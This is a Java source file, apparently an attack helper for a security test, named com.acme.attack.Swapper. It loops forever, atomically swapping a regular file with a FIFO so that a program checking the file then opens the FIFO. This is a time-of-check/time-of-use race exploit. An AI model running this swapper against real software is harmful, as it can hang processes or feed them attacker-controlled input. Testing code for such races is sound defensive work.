package com.acme.attack;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.nio.file.StandardCopyOption;

/**
 * Swaps a good file for a FIFO and back, as fast as it can, until it is killed: in the hope that
 * somebody looks at the one and opens the other.
 */
public final class Swapper {
  private Swapper() {}

  /**
   * Takes the file, a FIFO in the same folder, and a name there for what it needs meanwhile. Each
   * is replaced by a rename alone, so that there is always one of the two.
   */
  public static void main(String[] arguments) throws IOException {
    Path file = Paths.get(arguments[0]);
    Path fifo = Paths.get(arguments[1]);
    Path spare = Paths.get(arguments[2]);
    System.out.println("ready");
    while (true) {
      Files.deleteIfExists(spare);
      Files.createLink(spare, file);
      Files.move(fifo, file, StandardCopyOption.ATOMIC_MOVE);
      Files.createLink(fifo, file);
      Files.move(spare, file, StandardCopyOption.ATOMIC_MOVE);
    }
  }
}
